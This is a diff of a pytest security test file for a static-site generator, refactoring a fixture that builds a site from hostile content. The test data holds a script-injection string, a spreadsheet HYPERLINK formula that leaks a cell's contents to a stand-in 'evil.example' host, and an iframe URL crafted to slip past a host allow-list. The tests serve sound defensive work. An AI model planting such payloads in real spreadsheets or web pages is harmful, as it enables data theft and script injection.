@@ -22,7 +22,7 @@ from fedsite.report import csv_cell
 from fedsite.sanitize import allowed_src, clean_html
 from fedsite.settings import DEFAULT_IFRAME_HOSTS
 
-from conftest import NOW, PROJECT, copy_federation
+from conftest import NOW, PROJECT, build_once, copy_federation
 
 SCRIPT = "</p><script>alert(1)</script>"
 EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Нажмите")'
@@ -80,9 +80,6 @@ def test_unicode_and_odd_allow_list_entries() -> None:
 
 @pytest.fixture(scope="module")
 def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    mp = pytest.MonkeyPatch()
-    mp.setenv("FEDSITE_NOW", NOW)
-    mp.setenv("SOURCE_DATE_EPOCH", "1700000000")
     repo = copy_federation("mini", tmp_path_factory.mktemp("hostile"))
     region = repo / "sites" / "region"
     card = (region / "site.yml").read_text(encoding="utf-8")
@@ -94,11 +91,7 @@ def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
         "---\ntitle: Проверка\nsummary: '" + SCRIPT + "'\n---\n\nТекст.\n\n"
         '<iframe src="https://evil.com\\@www.youtube.com/x"></iframe>\n\n'
         '<iframe src="https://www.youtube.com/embed/abc"></iframe>\n', encoding="utf-8")
-    diags = Diagnostics(repo)
-    result = build(repo, repo / "public", diags, jobs=1)
-    mp.undo()
-    assert result is not None, [str(p) for p in diags.sorted()]
-    return repo / "public"
+    return build_once(repo)
 
 
 def test_post_page_keeps_only_the_allowed_iframe(hostile_build: Path) -> None:
